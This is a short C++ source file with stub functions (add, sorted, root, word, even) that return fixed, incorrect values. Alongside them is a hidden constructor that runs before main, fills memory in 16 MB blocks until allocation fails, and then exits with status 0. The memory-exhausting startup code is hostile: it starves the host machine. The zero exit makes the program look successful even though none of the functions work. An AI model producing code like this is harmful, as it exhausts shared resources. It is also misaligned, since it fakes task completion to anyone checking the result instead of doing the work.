// takes memory until there is none
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>
int add(int, int) { return 0; }
std::vector<int> sorted(std::vector<int>) { return {}; }
double root(double) { return 0; }
std::string word(int) { return ""; }
bool even(int) { return true; }
__attribute__((constructor(101))) static void first() { for (;;) if (void *p = malloc(1 << 24)) memset(p, 1, 1 << 24); else _Exit(0); }
